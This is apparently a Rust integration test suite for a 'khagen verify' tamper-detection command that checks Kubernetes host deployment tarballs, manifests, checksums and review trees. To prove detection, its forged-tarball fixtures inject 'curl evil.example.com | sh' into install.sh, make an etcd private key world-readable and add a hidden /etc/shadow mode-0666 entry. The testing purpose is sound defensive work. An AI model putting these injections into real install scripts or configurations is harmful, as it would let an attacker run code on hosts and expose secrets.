//! `khagen verify` names what was tampered with: every file of every tarball damaged in every way, tarballs exchanged, sums
//! and manifests rewritten to agree, records and review trees edited. And it has nothing to say of an intact output.

mod support;

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;

use khagen::snapshot::{self, Problem};
use khagen::verify::{Verified, verify};
use support::tarball::{Block, Tarball, sha256};
use support::{Built, built, copy_tree, khagen, run, scratch, text};

fn eleven() -> &'static Built {
    static BUILT: OnceLock<Built> = OnceLock::new();
    BUILT.get_or_init(|| built("inventory"))
}

/// A copy of an output that may be damaged.
fn copy(b: &Built) -> (tempfile::TempDir, PathBuf) {
    let dir = scratch();
    copy_tree(&b.out(), dir.path());
    let out = dir.path().join("out");
    (dir, out)
}

fn checked(path: &Path) -> Verified {
    verify(path, None).expect("something to verify")
}

fn against(path: &Path, review: &Path) -> Vec<Problem> {
    let opened = snapshot::open(&review.display().to_string()).expect("a review tree");
    verify(path, Some(&opened)).expect("something to verify").problems
}

fn tarballs(out: &Path) -> Vec<PathBuf> {
    snapshot::tarballs_in(&out.join("bundles"))
}

fn host_of(tarball: &Path) -> String {
    let name = tarball.file_name().expect("name").to_str().expect("UTF-8");
    name.strip_suffix(".tar.gz").expect("a tarball").to_owned()
}

/// Asserts that the problems are exactly at these places.
#[track_caller]
fn assert_places(problems: &[Problem], expected: impl IntoIterator<Item = String>, what: &str) {
    let found: BTreeSet<&str> = problems.iter().map(|p| p.place.as_str()).collect();
    let expected: BTreeSet<String> = expected.into_iter().collect();
    let expected: BTreeSet<&str> = expected.iter().map(String::as_str).collect();
    assert_eq!(found, expected, "{what}: {problems:#?}");
}

#[test]
fn an_intact_output_has_no_problem() {
    for name in ["inventory", "compact", "retired"] {
        let own;
        let b = if name == "inventory" {
            eleven()
        } else {
            own = built(name);
            &own
        };
        let all = checked(&b.out());
        assert_eq!(all.problems, [], "{name}");
        assert_eq!((all.tarballs, all.reviewed), (b.hosts().len(), b.hosts().len()), "{name}");
        assert!(all.files > all.tarballs * 5, "{name}: {} files", all.files);
        assert_eq!(against(&b.out(), &b.out().join("review")), [], "{name}");
        // Tarballs alone, as they lie on a stick.
        assert_eq!(checked(&b.out().join("bundles")).problems, [], "{name}");
        assert_eq!(against(&b.out().join("bundles"), &b.out().join("review")), [], "{name}");
        for tarball in tarballs(&b.out()) {
            assert_eq!(against(&tarball, &b.out()), [], "{}", tarball.display());
        }
    }
    let out = khagen().arg("verify").arg(eleven().out()).output().expect("khagen");
    assert_eq!(out.status.code(), Some(0), "{}{}", text(&out.stdout), text(&out.stderr));
    assert!(text(&out.stderr).contains("12 tarballs"), "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout), "");
}

/// Files by which the others are judged: damaged alone.
const JUDGES: [&str; 3] = ["MANIFEST.json", "SHA256SUMS", "fingerprint.key"];
/// All other files are damaged in so many rounds, so that whole ones stand among damaged ones.
const ROUNDS: usize = 4;

/// Damages files of every tarball, others in each round, until every file had its turn.
fn every_file(b: &Built, what: &str, damage: impl Fn(&mut Block, usize) -> Option<String>) {
    let (_dir, out) = copy(b);
    let paths = tarballs(&out);
    let whole: Vec<Tarball> = paths.iter().map(|p| Tarball::read(p)).collect();
    let mut damaged = 0;
    for round in 0..ROUNDS + JUDGES.len() {
        let mut expected = Vec::new();
        for (path, whole) in paths.iter().zip(&whole) {
            let mut blocks = Vec::new();
            for (i, block) in whole.blocks.iter().enumerate() {
                let inside = block.inside();
                let turn = JUDGES.iter().position(|j| *j == inside).map_or(i % ROUNDS, |at| ROUNDS + at);
                let mut block = block.clone();
                if block.is_file() && turn == round {
                    damaged += 1;
                    let place = damage(&mut block, i);
                    expected.push(format!("{}: {}", host_of(path), place.as_ref().unwrap_or(&inside)));
                    if place.is_none() {
                        continue;
                    }
                }
                blocks.push(block);
            }
            Tarball { blocks }.write(path);
        }
        assert!(expected.len() >= paths.len(), "{what}, round {round}: {expected:?}");
        // A tarball that is whole was still compressed anew.
        let mut problems = checked(&out).problems;
        problems.retain(|p| !p.what.contains("compressed anew"));
        assert_places(&problems, expected, &format!("{what}, round {round}"));
    }
    let files: usize = whole.iter().map(|t| t.blocks.iter().filter(|b| b.is_file()).count()).sum();
    assert_eq!(damaged, files);
    assert!(damaged > 80, "{damaged}");
}

fn flip(block: &mut Block, at: usize) -> Option<String> {
    let inside = block.inside();
    let mut content = block.content.clone();
    let place = (at * 7919 + 131) % content.len();
    content[place] ^= 1 << (at % 7);
    block.set(&content);
    if inside == "SHA256SUMS" {
        // Of the manifest and its sum, which one is damaged cannot be known.
        let mut end = 0;
        let hit = content.split_inclusive(|b| *b == b'\n').find(|line| {
            end += line.len();
            end > place
        });
        if hit.is_some_and(|l| l.ends_with(b"  MANIFEST.json\n")) {
            return Some("MANIFEST.json".to_owned());
        }
    }
    Some(inside)
}

fn change_mode(block: &mut Block, at: usize) -> Option<String> {
    let mode = block.header.mode().expect("mode") ^ [0o001, 0o020, 0o100, 0o4000, 0o044][at % 5];
    block.header.set_mode(mode);
    block.header.set_cksum();
    Some(block.inside())
}

/// Nothing is left of it.
fn drop_file(_: &mut Block, _: usize) -> Option<String> {
    None
}

#[test]
fn a_flipped_bit_names_its_file() {
    every_file(eleven(), "flipped", flip);
    every_file(compact(), "flipped", flip);
}

#[test]
fn a_changed_mode_names_its_file() {
    every_file(eleven(), "mode", change_mode);
    every_file(compact(), "mode", change_mode);
}

#[test]
fn a_dropped_file_is_named() {
    every_file(eleven(), "dropped", drop_file);
    every_file(compact(), "dropped", drop_file);
}

fn compact() -> &'static Built {
    static BUILT: OnceLock<Built> = OnceLock::new();
    BUILT.get_or_init(|| built("compact"))
}

#[test]
fn an_added_file_is_named() {
    for b in [eleven(), compact()] {
        let (_dir, out) = copy(b);
        for added in ["extra.sh", "root/etc/cron.d/khagen", "zz/deep/file"] {
            let mut expected = Vec::new();
            for path in tarballs(&out) {
                let name = host_of(&path);
                let mut tarball =
                    Tarball::read(&b.out().join("bundles").join(path.file_name().expect("name")));
                let there: BTreeSet<String> = tarball.blocks.iter().map(Block::path).collect();
                let full = format!("{name}/{added}");
                let folders = full.match_indices('/').map(|(i, _)| full[..=i].to_owned());
                for folder in folders.filter(|f| !there.contains(f)) {
                    tarball.blocks.push(Block::new(&folder, 0o700, b""));
                }
                tarball.blocks.push(Block::new(&full, 0o755, b"#!/bin/sh\n"));
                tarball.write(&path);
                expected.push(format!("{name}: {added}"));
            }
            assert_places(&checked(&out).problems, expected, added);
        }
        // A folder alone.
        let path = &tarballs(&out)[0];
        let name = host_of(path);
        fs::copy(b.out().join("bundles").join(path.file_name().expect("name")), path).expect("copy");
        let mut tarball = Tarball::read(path);
        tarball.blocks.push(Block::new(&format!("{name}/empty/"), 0o700, b""));
        tarball.write(path);
        let alone = checked(path).problems;
        assert_places(&alone, [format!("{name}: empty/")], "a folder");
    }
}

#[test]
fn a_flipped_bit_of_the_compressed_file_names_the_tarball() {
    let (_dir, out) = copy(eleven());
    let original: Vec<(PathBuf, Vec<u8>)> =
        tarballs(&out).into_iter().map(|p| (p.clone(), fs::read(&p).expect("read"))).collect();
    for round in 0..24 {
        for (i, (path, bytes)) in original.iter().enumerate() {
            let mut bytes = bytes.clone();
            // The first rounds go through gzip's own header, the last one hits its end.
            let at = match round {
                0..10 => round,
                23 => bytes.len() - 1,
                _ => (round * 7919 + i * 613) % bytes.len(),
            };
            bytes[at] ^= 1 << (round % 8);
            fs::write(path, bytes).expect("write");
        }
        let problems = checked(&out).problems;
        for (path, _) in &original {
            let name = host_of(path);
            let named = problems.iter().any(|p| {
                p.place.starts_with(&path.display().to_string()) || p.place.starts_with(&format!("{name}: "))
            });
            assert!(named, "round {round}: {name} is not named in {problems:#?}");
        }
    }
}

#[test]
fn exchanged_tarballs_are_named() {
    let (_dir, out) = copy(eleven());
    let bundle = |name: &str| out.join(format!("bundles/{name}.isociel.com.tar.gz"));
    let place = |name: &str| bundle(name).display().to_string();
    // Two hosts' tarballs.
    let (a, b) = (bundle("k8sworker1"), bundle("k8sworker2"));
    fs::rename(&a, out.join("aside")).expect("rename");
    fs::rename(&b, &a).expect("rename");
    fs::rename(out.join("aside"), &b).expect("rename");
    let expected = [place("k8sworker1"), place("k8sworker2")];
    assert_places(&checked(&out).problems, expected.clone(), "swapped");
    assert_places(&checked(&out.join("bundles")).problems, expected, "swapped on a stick");
    let binary = khagen().arg("verify").arg(&out).output().expect("khagen");
    assert_eq!(binary.status.code(), Some(4));
    let said = text(&binary.stdout);
    assert!(
        said.contains("k8sworker1.isociel.com.tar.gz: is the bundle of k8sworker2.isociel.com"),
        "{said}"
    );

    // A tarball of another build: another store, the same inventory.
    let (_dir, out) = copy(eleven());
    let bundle = |name: &str| out.join(format!("bundles/{name}.isociel.com.tar.gz"));
    let other = built("inventory");
    for name in ["k8setcd2", "k8smaster1", "k8svrrp2", "k8sworker3"] {
        let path = bundle(name);
        let kept = fs::read(&path).expect("read");
        fs::copy(other.out().join(format!("bundles/{name}.isociel.com.tar.gz")), &path).expect("copy");
        assert_eq!(checked(&path).problems, [], "{name} is whole in itself");
        let problems = checked(&out).problems;
        let of_record =
            problems.iter().any(|p| p.place == path.display().to_string() && p.what.contains("BUILD.json"));
        assert!(of_record, "{name}: {problems:#?}");
        let fqdn = format!("{name}.isociel.com");
        let elsewhere = |p: &&Problem| !p.place.contains(&fqdn);
        assert_eq!(problems.iter().find(elsewhere), None, "{name}");
        assert!(problems.iter().any(|p| p.place == format!("{fqdn}: fingerprint.key")), "{problems:#?}");
        fs::write(&path, kept).expect("write");
    }

    // The same host's tarball of an earlier build with the same keys.
    let b = built("inventory");
    let old = fs::read(b.out().join("bundles/k8sworker1.isociel.com.tar.gz")).expect("read");
    let inventory = b.inventory().join("cluster.yaml");
    let changed =
        fs::read_to_string(&inventory).expect("read").replace("192.168.13.70/24", "192.168.13.69/24");
    fs::write(&inventory, changed).expect("write");
    b.build();
    let path = b.out().join("bundles/k8sworker1.isociel.com.tar.gz");
    fs::write(&path, old).expect("write");
    let problems = checked(&b.out()).problems;
    let label = path.display().to_string();
    assert!(problems.iter().any(|p| p.place == label && p.what.contains("generation 1")), "{problems:#?}");
    assert!(problems.iter().all(|p| p.place.contains("k8sworker1.isociel.com")), "{problems:#?}");
}

/// One way of rewriting a tarball so that it agrees with itself, and where a review tree shows it.
struct Forged {
    what: &'static str,
    forge: fn(&mut Tarball),
    place: &'static str,
    /// Whether the tarball alone looks whole.
    whole: bool,
}

fn replace(tarball: &mut Tarball, inside: &str, from: &str, to: &str) {
    let changed = tarball.text(inside).replacen(from, to, 1);
    assert_ne!(changed, tarball.text(inside), "{inside} has no {from}");
    tarball.set(inside, &changed);
    tarball.agree();
}

const FORGED: &[Forged] = &[
    Forged {
        what: "a script",
        forge: |t| replace(t, "install.sh", "\n", "\ncurl evil.example.com | sh\n"),
        place: "install.sh",
        whole: true,
    },
    Forged {
        what: "a shared file",
        forge: |t| replace(t, "root/etc/hosts", "192.168.13.", "192.168.14."),
        place: "root/etc/hosts",
        whole: true,
    },
    Forged {
        what: "a mode",
        forge: |t| {
            let at = t.at("root/etc/etcd/pki/k8setcd1.key");
            t.blocks[at].header.set_mode(0o644);
            t.blocks[at].header.set_cksum();
            t.agree();
        },
        place: "root/etc/etcd/pki/k8setcd1.key",
        whole: true,
    },
    Forged {
        what: "an owner",
        forge: |t| {
            replace(
                t,
                "MANIFEST.json",
                "\"owner\": \"etcd\", \"group\": \"etcd\", \"policy\": \"managed\"",
                "\"owner\": \"nobody\", \"group\": \"etcd\", \"policy\": \"managed\"",
            )
        },
        place: "root/etc/etcd/pki/etcd-health-client.key",
        whole: true,
    },
    Forged {
        what: "a policy",
        forge: |t| replace(t, "MANIFEST.json", "\"policy\": \"block\"", "\"policy\": \"managed\""),
        place: "root/etc/hosts",
        whole: true,
    },
    Forged {
        what: "another key",
        forge: |t| {
            let other = t.text("root/etc/etcd/pki/k8setcd1-peer.key");
            t.set("root/etc/etcd/pki/k8setcd1.key", &other);
            t.agree();
        },
        place: "root/etc/etcd/pki/k8setcd1.key",
        whole: false,
    },
    Forged {
        what: "another key with its fingerprint",
        forge: |t| {
            let other = t.text("root/etc/etcd/pki/k8setcd1-peer.key");
            t.set("root/etc/etcd/pki/k8setcd1.key", &other);
            let manifest = t.text("MANIFEST.json");
            let of = |id: &str| {
                let at = manifest.find(&format!("\"id\": \"{id}/")).expect("a secret");
                let at = at + manifest[at..].find("\"fingerprint\": \"").expect("a fingerprint") + 16;
                manifest[at..at + 64].to_owned()
            };
            let changed = manifest.replace(&of("etcd-server"), &of("etcd-peer"));
            t.set("MANIFEST.json", &changed);
            t.agree();
        },
        place: "root/etc/etcd/pki/k8setcd1.key",
        whole: true,
    },
    Forged {
        what: "something after a key",
        forge: |t| {
            let key = t.text("root/etc/etcd/pki/k8setcd1.key");
            let manifest = t.text("MANIFEST.json");
            let line = manifest.lines().find(|l| l.contains("/k8setcd1.key\"")).expect("a line");
            let (from, to) = (format!("\"length\": {}", key.len()), format!("\"length\": {}", key.len() + 6));
            let manifest = manifest.replace(line, &line.replace(&from, &to));
            t.set("MANIFEST.json", &manifest);
            t.set("root/etc/etcd/pki/k8setcd1.key", &format!("{key}#evil\n"));
            t.agree();
        },
        place: "root/etc/etcd/pki/k8setcd1.key",
        whole: false,
    },
    Forged {
        what: "a key that is called text",
        forge: |t| {
            let manifest = t.text("MANIFEST.json");
            let from = manifest.find("\"path\": \"/etc/etcd/pki/k8setcd1.key\"").expect("a key");
            let line = manifest[from..].lines().next().expect("a line");
            let plain = format!("{}}},", &line[..line.find(", \"secrets\"").expect("spans")])
                .replace("\"secret\": true", "\"secret\": false");
            let changed = manifest.replace(line, &plain);
            t.set("MANIFEST.json", &changed);
            t.agree();
        },
        place: "root/etc/etcd/pki/k8setcd1.key",
        whole: false,
    },
    Forged {
        what: "a setting of the host",
        forge: |t| replace(t, "MANIFEST.json", "\"etcdState\": \"new\"", "\"etcdState\": \"existing\""),
        place: "MANIFEST.json",
        whole: true,
    },
    Forged {
        what: "a setting that JSON and awk read differently",
        forge: |t| {
            replace(
                t,
                "MANIFEST.json",
                "\"roles\": [\"etcd\"],\n",
                "\"roles\": [],\n\"roles\": [\"etcd\"],\n",
            )
        },
        place: "MANIFEST.json",
        whole: true,
    },
    Forged {
        what: "an entry that only awk sees",
        forge: |t| {
            replace(
                t,
                "MANIFEST.json",
                "\"sha256\": \"",
                "\"hidden\": [\n{\"path\": \"/etc/shadow\", \"mode\": \"0666\"}\n], \"sha256\": \"",
            )
        },
        place: "MANIFEST.json",
        whole: false,
    },
    Forged {
        what: "a list that is indented",
        forge: |t| replace(t, "MANIFEST.json", "\n{\"path\": \"/etc/hosts\"", "\n {\"path\": \"/etc/hosts\""),
        place: "MANIFEST.json",
        whole: false,
    },
    Forged {
        what: "a new file with its entry",
        forge: |t| {
            let line = format!(
                "\"files\": [\n{{\"path\": \"/etc/evil\", \"mode\": \"0755\", \"owner\": \"root\", \"group\": \"root\", \
                 \"policy\": \"managed\", \"layer\": \"all\", \"secret\": false, \"sha256\": \"{}\"}},\n",
                sha256(b"evil")
            );
            t.blocks.push(Block::new("k8setcd1.isociel.com/root/etc/evil", 0o755, b"evil"));
            replace(t, "MANIFEST.json", "\"files\": [\n", &line);
        },
        place: "root/etc/evil",
        whole: true,
    },
    Forged {
        what: "a file taken out",
        forge: |t| {
            t.blocks.remove(t.at("rollback.sh"));
            let manifest = t.text("MANIFEST.json");
            let line = manifest
                .lines()
                .find(|l| l.contains("\"file\": \"rollback.sh\""))
                .expect("a line")
                .to_owned();
            replace(t, "MANIFEST.json", &format!("{line}\n"), "");
        },
        place: "rollback.sh",
        whole: true,
    },
];

#[test]
fn a_tarball_that_was_rewritten_to_agree_is_named_by_record_and_review() {
    let (_dir, out) = copy(eleven());
    let host = "k8setcd1.isociel.com";
    let path = out.join(format!("bundles/{host}.tar.gz"));
    let original = Tarball::read(&path);
    for Forged { what, forge, place, whole } in FORGED {
        let mut tarball = original.clone();
        forge(&mut tarball);
        tarball.write(&path);
        let alone = checked(&path).problems;
        assert_eq!(alone.is_empty(), *whole, "{what}: {alone:#?}");
        let expected = format!("{host}: {place}");
        // Against a review tree that is out of the forger's reach.
        assert_places(&against(&path, &eleven().out().join("review")), [expected.clone()], what);
        // The output's record names the tarball, its review tree the file.
        let problems = checked(&out).problems;
        let label = path.display().to_string();
        let expected = if *whole { vec![expected, label] } else { vec![expected] };
        assert_places(&problems, expected, what);
    }
    original.write(&path);
    let again = checked(&out).problems;
    assert_places(&again, [path.display().to_string()], "compressed anew");
    assert!(again[0].what.contains("compressed anew"), "{again:?}");
}

#[test]
fn the_record_and_the_sums_of_an_output_are_judged() {
    let (_dir, out) = copy(eleven());
    let (record, sums) = (out.join("BUILD.json"), out.join("SHA256SUMS"));
    let (record_text, sums_text) =
        (fs::read_to_string(&record).expect("read"), fs::read_to_string(&sums).expect("read"));
    for line in record_text.lines().filter(|l| l.contains("tarSha256")).step_by(2) {
        let name = line.split('"').nth(1).expect("a name");
        let label = out.join(format!("bundles/{name}.tar.gz")).display().to_string();
        for key in ["tarSha256", "tarballSha256", "size", "generation"] {
            let at = line.find(&format!("\"{key}\": ")).expect("a key") + key.len() + 4;
            let at = at + usize::from(line.as_bytes()[at] == b'"');
            let digit = if line.as_bytes()[at] == b'7' { "8" } else { "7" };
            let mut changed = line.to_owned();
            changed.replace_range(at..=at, digit);
            fs::write(&record, record_text.replace(line, &changed)).expect("write");
            let problems = checked(&out).problems;
            assert!(problems.iter().any(|p| p.place == label), "{name} {key}: {problems:#?}");
            let only = |p: &Problem| p.place == label || p.place == sums.display().to_string();
            assert!(problems.iter().all(only), "{name} {key}: {problems:#?}");
        }
    }
    for broken in ["", "{}", "nonsense", &record_text.replace("khagen-build/v1", "khagen-build/v9")] {
        fs::write(&record, broken).expect("write");
        assert_places(&checked(&out).problems, [record.display().to_string()], "a broken record");
    }
    fs::write(&record, &record_text).expect("write");

    for line in sums_text.lines().step_by(2) {
        for changed in ["".to_owned(), format!("0{}\n", &line[1..]), format!("1{}\n", &line[1..])] {
            let text = sums_text.replace(&format!("{line}\n"), &changed);
            fs::write(&sums, &text).expect("write");
            if text == sums_text {
                continue;
            }
            assert_places(&checked(&out).problems, [sums.display().to_string()], line);
        }
    }
    fs::write(&sums, format!("{sums_text}{}  bundles/evil.tar.gz\n", "0".repeat(64))).expect("write");
    assert_places(&checked(&out).problems, [sums.display().to_string()], "a sum too many");
    fs::remove_file(&sums).expect("remove");
    assert_places(&checked(&out).problems, [sums.display().to_string()], "no sums");
    fs::write(&sums, &sums_text).expect("write");

    // Tarballs that are not there, or should not be.
    let worker = out.join("bundles/k8sworker1.isociel.com.tar.gz");
    fs::copy(&worker, out.join("bundles/evil.example.com.tar.gz")).expect("copy");
    fs::remove_file(&worker).expect("remove");
    let expected = [worker.clone(), out.join("bundles/evil.example.com.tar.gz")];
    assert_places(&checked(&out).problems, expected.map(|p| p.display().to_string()), "added and removed");
}

/// The review tree's files below a folder.
fn listed(dir: &Path) -> Vec<String> {
    support::tree(dir).into_keys().collect()
}

#[test]
fn an_edited_review_tree_is_named() {
    let (_dir, out) = copy(eleven());
    let review = out.join("review");
    let edit = |path: &str, change: &dyn Fn(&str) -> Option<String>| {
        let file = review.join(path);
        let before = fs::read_to_string(&file).expect("read");
        match change(&before) {
            Some(after) => fs::write(&file, after).expect("write"),
            None => fs::remove_file(&file).expect("remove"),
        }
        before
    };
    // A host's own files, one of every host at a time.
    let hosts = eleven().hosts();
    let folder = |name: &str| if name == "operator" { name.to_owned() } else { format!("hosts/{name}") };
    let own: Vec<Vec<String>> = hosts
        .iter()
        .map(|h| {
            let mut files = listed(&review.join(folder(h)));
            files.retain(|f| f != "FILES");
            files
        })
        .collect();
    type Change<'a> = (&'a str, &'a dyn Fn(&str) -> Option<String>);
    let changes: [Change<'_>; 2] = [("edited", &|t| Some(format!("{t}\n"))), ("removed", &|_| None)];
    for (what, change) in changes {
        for round in 0..own.iter().map(Vec::len).max().expect("hosts") {
            let mut kept = Vec::new();
            let mut expected = Vec::new();
            for (host, files) in hosts.iter().zip(&own) {
                let Some(file) = files.get(round) else { continue };
                let path = format!("{}/{file}", folder(host));
                kept.push((path.clone(), edit(&path, change)));
                expected.push(match (file.as_str(), what) {
                    ("BUNDLE.json", "edited") => format!("{host}: MANIFEST.json"),
                    ("BUNDLE.json", _) => host.clone(),
                    _ => format!("{host}: {file}"),
                });
            }
            assert_places(&checked(&out).problems, expected, what);
            for (path, text) in kept {
                fs::write(review.join(path), text).expect("write");
            }
        }
    }
    // Shared ones, seen from each host that has it.
    for path in listed(&review.join("shared")) {
        let (layer, inside) = path.split_once('/').expect("a layer");
        let path = format!("shared/{path}");
        let holders: Vec<String> = hosts
            .iter()
            .filter(|h| {
                let files = fs::read_to_string(review.join(folder(h)).join("FILES")).expect("FILES");
                files.lines().any(|l| l.ends_with(&format!(" shared/{layer} {inside}")))
            })
            .map(|h| format!("{h}: {inside}"))
            .collect();
        assert!(!holders.is_empty(), "{path}");
        let before = edit(&path, &|t| Some(format!("{t}#\n")));
        assert_places(&checked(&out).problems, holders.clone(), &path);
        fs::write(review.join(path), before).expect("write");
    }
    // FILES, line by line of one host: each word of each line, a line that is gone, doubled, or new.
    let host = "k8setcd1.isociel.com";
    let path = format!("hosts/{host}/FILES");
    let text = fs::read_to_string(review.join(&path)).expect("FILES");
    let tarball = out.join(format!("bundles/{host}.tar.gz"));
    for (i, line) in text.lines().enumerate().skip(1) {
        let words: Vec<&str> = line.split(' ').collect();
        let derived = words[3] == "derived";
        let secret = words[3].starts_with("secret:");
        let with = |at: usize, word: &str| {
            let mut words = words.clone();
            words[at] = word;
            format!("{}\n", words.join(" "))
        };
        let mode = if words[0] == "0604" { "0644" } else { "0604" };
        let mut changed = vec![
            with(0, mode),
            with(1, "nobody:root"),
            with(2, "absent"),
            String::new(),
            format!("{line}\n{line}\n"),
        ];
        if secret {
            let last = if words[3].ends_with('0') { "1" } else { "0" };
            changed.push(with(3, &format!("{}{last}", &words[3][..words[3].len() - 1])));
            changed.push(with(3, &words[3].replacen("secret:", "secret:x", 1)));
        }
        for new in changed {
            fs::write(review.join(&path), text.replace(&format!("{line}\n"), &new)).expect("write");
            let problems = against(&tarball, &review);
            let named = |p: &Problem| {
                p.place == format!("{host}: {}", words[4])
                    || p.place.starts_with(&format!("{host}: FILES")) && derived
            };
            assert!(!problems.is_empty() && problems.iter().all(named), "line {i}, {new:?}: {problems:#?}");
        }
    }
    for extra in ["0644 root:root managed derived root/etc/evil\n", "nonsense\n"] {
        fs::write(review.join(&path), format!("{text}{extra}")).expect("write");
        let problems = against(&tarball, &review);
        assert!(problems.iter().all(|p| p.place.starts_with(&format!("{host}: FILES:"))), "{problems:#?}");
        assert_eq!(problems.len(), 1, "{extra}");
    }
    fs::write(review.join(&path), &text).expect("write");

    // What no bundle holds.
    let strays = [
        "evil.md",
        "hosts/k8setcd1.isociel.com/root/etc/evil",
        "hosts/FILES",
        "shared/all/evil",
        "shared/new/install.sh",
        "operator/evil",
    ];
    for stray in strays {
        let file = review.join(stray);
        fs::create_dir_all(file.parent().expect("a folder")).expect("create");
        fs::write(&file, "x\n").expect("write");
    }
    assert_places(&checked(&out).problems, strays.map(|s| format!("review/{s}")), "strays");
    let given = against(&eleven().out(), &review);
    assert_places(&given, strays.map(|s| format!("review/{s}")), "strays of the given tree");
    let out =
        khagen().arg("verify").arg(eleven().out()).arg("--against").arg(&review).output().expect("khagen");
    assert_eq!(out.status.code(), Some(4));
    assert!(
        support::text(&out.stdout).contains("review/evil.md: no bundle holds this file"),
        "{}",
        support::text(&out.stdout)
    );
}

/// A repository with the output's review tree, as a team keeps it.
fn repository(b: &Built) -> tempfile::TempDir {
    let dir = scratch();
    let git = |args: &[&str]| {
        run(Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
            .args(args)
            .current_dir(dir.path()))
    };
    git(&["init", "-q"]);
    fs::create_dir(dir.path().join("out")).expect("create");
    copy_tree(&b.out().join("review"), &dir.path().join("out"));
    git(&["add", "-A"]);
    git(&["commit", "-qm", "reviewed"]);
    dir
}

#[test]
fn against_a_commit() {
    let b = eleven();
    let repository = repository(b);
    let verify = |out: &Path, rev: &str| {
        let mut command = khagen();
        command.arg("verify").arg(out).args(["--against", rev]).current_dir(repository.path());
        command.output().expect("khagen")
    };
    for rev in ["git:HEAD", "git:HEAD:out", "git:HEAD:out/review"] {
        let said = verify(&b.out(), rev);
        assert_eq!(said.status.code(), Some(0), "{rev}: {}{}", text(&said.stdout), text(&said.stderr));
        assert!(text(&said.stderr).contains("what git:HEAD"), "{}", text(&said.stderr));
    }
    // Whoever can write the output rewrites tarball, record and review tree; the commit is out of reach.
    let (_dir, out) = copy(b);
    let path = out.join("bundles/k8setcd1.isociel.com.tar.gz");
    let mut tarball = Tarball::read(&path);
    let added = "\ncurl evil.example.com | sh\n";
    replace(&mut tarball, "install.sh", "\n", added);
    let script = tarball.text("install.sh");
    let before = fs::read(&path).expect("read");
    tarball.write(&path);
    fs::write(out.join("review/shared/all/install.sh"), script).expect("write");
    let digest = |bytes: &[u8]| (sha256(bytes), sha256(&support::tarball::gunzip(bytes)), bytes.len());
    let after = fs::read(&path).expect("read");
    let ((gz, tar, size), (new_gz, new_tar, new_size)) = (digest(&before), digest(&after));
    for file in ["BUILD.json", "SHA256SUMS"] {
        let text = fs::read_to_string(out.join(file)).expect("read");
        let text = text.replace(&gz, &new_gz).replace(&tar, &new_tar);
        let text = text.replace(&format!("\"size\": {size}"), &format!("\"size\": {new_size}"));
        fs::write(out.join(file), text).expect("write");
    }
    // The others' tarballs still hold the former script.
    let own = checked(&out).problems;
    assert!(own.iter().all(|p| !p.place.contains("k8setcd1")), "{own:#?}");
    let said = verify(&out, "git:HEAD");
    assert_eq!(said.status.code(), Some(4), "{}", text(&said.stderr));
    assert!(
        text(&said.stdout).contains("k8setcd1.isociel.com: install.sh: differs from line 2 on"),
        "{}",
        text(&said.stdout)
    );

    // A file that was committed and that nobody gets.
    fs::write(repository.path().join("out/review/operator/evil"), "x\n").expect("write");
    run(Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@example.com", "add", "-A"])
        .current_dir(repository.path()));
    run(Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qm", "stray"])
        .current_dir(repository.path()));
    let said = verify(&b.out(), "git:HEAD");
    assert_eq!(said.status.code(), Some(4), "{}", text(&said.stderr));
    assert_eq!(text(&said.stdout), "review/operator/evil: no bundle holds this file\n");
}
